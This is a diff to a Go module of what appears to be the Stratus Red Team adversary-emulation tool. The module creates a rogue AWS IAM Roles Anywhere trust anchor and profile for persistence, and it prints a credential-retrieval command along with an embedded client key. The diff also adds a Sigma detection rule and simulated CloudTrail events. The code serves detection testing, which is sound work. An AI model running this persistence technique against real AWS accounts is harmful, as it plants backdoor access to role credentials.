@@ -1,17 +1,15 @@
 package aws
 
 import (
-	"context"
 	_ "embed"
 	"errors"
 	"github.com/aws/aws-sdk-go-v2/aws"
 	"github.com/aws/aws-sdk-go-v2/service/rolesanywhere"
 	"github.com/aws/aws-sdk-go-v2/service/rolesanywhere/types"
-	"github.com/datadog/stratus-red-team/internal/providers"
 	"github.com/datadog/stratus-red-team/internal/utils"
 	"github.com/datadog/stratus-red-team/pkg/stratus"
+	"github.com/datadog/stratus-red-team/pkg/stratus/logs"
 	"github.com/datadog/stratus-red-team/pkg/stratus/mitreattack"
-	"log"
 )
 
 const trustAnchorName = "malicious-rolesanywhere-trust-anchor"
@@ -29,6 +27,9 @@ var clientCertificate string
 //go:embed main.tf
 var tf []byte
 
+//go:embed sigma.yml
+var sigma []byte
+
 func init() {
 	stratus.GetRegistry().RegisterAttackTechnique(&stratus.AttackTechnique{
 		ID:           "aws.persistence.rolesanywhere-create-trust-anchor",
@@ -59,24 +60,27 @@ References:
 		Detection: `
 Identify when a trust anchor is created, through CloudTrail's <code>CreateTrustAnchor</code> event.
 `,
+		SigmaRules:                 sigma,
 		Platform:                   stratus.AWS,
 		PrerequisitesTerraformCode: tf,
 		IsIdempotent:               false, // cannot create twice a Trust anchor with the same name
 		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.Persistence, mitreattack.PrivilegeEscalation},
+		RequiredOutputs:            []string{"role_arn"},
 		Detonate:                   detonate,
+		Simulate:                   simulate,
 		Revert:                     revert,
 	})
 }
 
-func detonate(params map[string]string) error {
-	rolesAnywhereClient := rolesanywhere.NewFromConfig(providers.AWS().GetConnection())
-	roleArn := params["role_arn"]
+func detonate(execution *stratus.ExecutionContext) error {
+	rolesAnywhereClient := rolesanywhere.NewFromConfig(execution.AWS.GetConnection())
+	roleArn := execution.Parameters["role_arn"]
 	tags := []types.Tag{
 		{Key: aws.String("StratusRedTeam"), Value: aws.String("true")},
 	}
 
-	log.Println("Creating a malicious trust anchor")
-	trustAnchorResult, err := rolesAnywhereClient.CreateTrustAnchor(context.Background(), &rolesanywhere.CreateTrustAnchorInput{
+	execution.Logger.Println("Creating a malicious trust anchor")
+	trustAnchorResult, err := rolesAnywhereClient.CreateTrustAnchor(execution.Context, &rolesanywhere.CreateTrustAnchorInput{
 		Name: aws.String(trustAnchorName),
 		Source: &types.Source{
 			SourceData: types.SourceData(
@@ -91,7 +95,7 @@ func detonate(params map[string]string) error {
 		return errors.New("Unable to create malicious trust anchor: " + err.Error())
 	}
 
-	profileResult, err := rolesAnywhereClient.CreateProfile(context.Background(), &rolesanywhere.CreateProfileInput{
+	profileResult, err := rolesAnywhereClient.CreateProfile(execution.Context, &rolesanywhere.CreateProfileInput{
 		Name:            aws.String(profileName),
 		RoleArns:        []string{roleArn},
 		Enabled:         aws.Bool(true),
@@ -102,29 +106,29 @@ func detonate(params map[string]string) error {
 		return errors.New("Unable to create malicious profile: " + err.Error())
 	}
 
-	log.Printf("Created malicious trust anchor %s and profile %s\n", *trustAnchorResult.TrustAnchor.TrustAnchorArn, *profileResult.Profile.ProfileArn)
-	log.Println("Optionally, you can use the following command to retrieve temporary credentials using a client-side certificate signed by the new malicious trust anchor")
-	log.Printf(
+	execution.Logger.Printf("Created malicious trust anchor %s and profile %s\n", *trustAnchorResult.TrustAnchor.TrustAnchorArn, *profileResult.Profile.ProfileArn)
+	execution.Logger.Println("Optionally, you can use the following command to retrieve temporary credentials using a client-side certificate signed by the new malicious trust anchor")
+	execution.Logger.Printf(
 		"aws_signing_helper credential-process --private-key client.key --certificate client.crt --trust-anchor-arn %s --role-arn %s --profile-arn %s\n",
 		*trustAnchorResult.TrustAnchor.TrustAnchorArn,
 		roleArn,
 		*profileResult.Profile.ProfileArn,
 	)
-	log.Printf("With:\nclient.key:\n%s\n\nclient.crt:\n%s", clientKey, clientCertificate)
+	execution.Logger.Printf("With:\nclient.key:\n%s\n\nclient.crt:\n%s", clientKey, clientCertificate)
 	return nil
 }
 
-func revert(map[string]string) error {
-	rolesanywhereClient := rolesanywhere.NewFromConfig(providers.AWS().GetConnection())
+func revert(execution *stratus.ExecutionContext) error {
+	rolesanywhereClient := rolesanywhere.NewFromConfig(execution.AWS.GetConnection())
 
-	errTrustAnchor := removeTrustAnchor(rolesanywhereClient)
-	errProfile := removeProfile(rolesanywhereClient)
+	errTrustAnchor := removeTrustAnchor(execution, rolesanywhereClient)
+	errProfile := removeProfile(execution, rolesanywhereClient)
 
 	return utils.CoalesceErr(errTrustAnchor, errProfile)
 }
 
-func removeTrustAnchor(client *rolesanywhere.Client) error {
-	result, err := client.ListTrustAnchors(context.Background(), &rolesanywhere.ListTrustAnchorsInput{
+func removeTrustAnchor(execution *stratus.ExecutionContext, client *rolesanywhere.Client) error {
+	result, err := client.ListTrustAnchors(execution.Context, &rolesanywhere.ListTrustAnchorsInput{
 		PageSize: aws.Int32(500),
 	})
 	if err != nil {
@@ -133,14 +137,14 @@ func removeTrustAnchor(client *rolesanywhere.Client) error {
 
 	for i := range result.TrustAnchors {
 		if *result.TrustAnchors[i].Name == trustAnchorName {
-			log.Println("Removing malicious trust anchor " + trustAnchorName)
-			_, err := client.DeleteTrustAnchor(context.Background(), &rolesanywhere.DeleteTrustAnchorInput{
+			execution.Logger.Println("Removing malicious trust anchor " + trustAnchorName)
+			_, err := client.DeleteTrustAnchor(execution.Context, &rolesanywhere.DeleteTrustAnchorInput{
 				TrustAnchorId: result.TrustAnchors[i].TrustAnchorId,
 			})
 			if err != nil {
 				return errors.New("Unable to remove trust anchor: " + err.Error())
 			}
-			log.Println("Removed trust anchor " + *result.TrustAnchors[i].TrustAnchorId)
+			execution.Logger.Println("Removed trust anchor " + *result.TrustAnchors[i].TrustAnchorId)
 			return nil
 		}
 	}
@@ -148,8 +152,8 @@ func removeTrustAnchor(client *rolesanywhere.Client) error {
 	return errors.New("could not find malicious trust anchor")
 }
 
-func removeProfile(client *rolesanywhere.Client) error {
-	profiles, err := client.ListProfiles(context.Background(), &rolesanywhere.ListProfilesInput{
+func removeProfile(execution *stratus.ExecutionContext, client *rolesanywhere.Client) error {
+	profiles, err := client.ListProfiles(execution.Context, &rolesanywhere.ListProfilesInput{
 		PageSize: aws.Int32(500),
 	})
 	if err != nil {
@@ -158,17 +162,40 @@ func removeProfile(client *rolesanywhere.Client) error {
 
 	for i := range profiles.Profiles {
 		if *profiles.Profiles[i].Name == profileName {
-			log.Println("Removing malicious profile" + profileName)
-			_, err := client.DeleteProfile(context.Background(), &rolesanywhere.DeleteProfileInput{
+			execution.Logger.Println("Removing malicious profile" + profileName)
+			_, err := client.DeleteProfile(execution.Context, &rolesanywhere.DeleteProfileInput{
 				ProfileId: profiles.Profiles[i].ProfileId,
 			})
 			if err != nil {
 				return errors.New("Unable to remove profile: " + err.Error())
 			}
-			log.Println("Removed malicious profile " + profileName)
+			execution.Logger.Println("Removed malicious profile " + profileName)
 			return nil
 		}
 	}
 
 	return errors.New("could not find malicious profile")
 }
+
+// simulate generates the CloudTrail events of the trust anchor and the profile being created
+func simulate(simulation *stratus.SimulationContext) []stratus.LogRecord {
+	tags := []interface{}{map[string]interface{}{"key": "StratusRedTeam", "value": "true"}}
+	return []stratus.LogRecord{
+		logs.CloudTrailEvent(simulation, "rolesanywhere.amazonaws.com", "CreateTrustAnchor", map[string]interface{}{
+			"name":    trustAnchorName,
+			"enabled": true,
+			"source": map[string]interface{}{
+				"sourceType": "CERTIFICATE_BUNDLE",
+				"sourceData": map[string]interface{}{"x509CertificateData": maliciousCACertificate},
+			},
+			"tags": tags,
+		}),
+		logs.CloudTrailEvent(simulation, "rolesanywhere.amazonaws.com", "CreateProfile", map[string]interface{}{
+			"name":            profileName,
+			"enabled":         true,
+			"durationSeconds": 3600 * 12,
+			"roleArns":        []string{"arn:aws:iam::" + simulation.AccountID + ":role/stratus-red-team-rolesanywhere-role"},
+			"tags":            tags,
+		}),
+	}
+}